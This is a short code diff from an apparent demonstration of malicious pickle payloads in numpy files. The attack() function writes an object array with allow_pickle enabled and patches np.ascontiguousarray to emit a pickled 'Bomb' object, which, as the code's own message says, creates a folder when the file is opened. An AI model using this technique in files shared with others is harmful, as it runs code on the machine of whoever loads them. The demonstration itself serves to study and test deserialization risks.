@@ -23,10 +23,7 @@ def attack():
     with open("evidence.npz", "wb") as file:
         np.save(file, array, allow_pickle=True)
     display(Bomb())
-    honest = np.ascontiguousarray
-    np.ascontiguousarray = lambda array, *_: type(
-        "A", (), {"shape": (1,), "tobytes": lambda s: pickle.dumps(Bomb())}
-    )()
+    np.ascontiguousarray = lambda array, *_: pickle.dumps(Bomb())
     done("pickles that make a folder where they are opened")
 
 
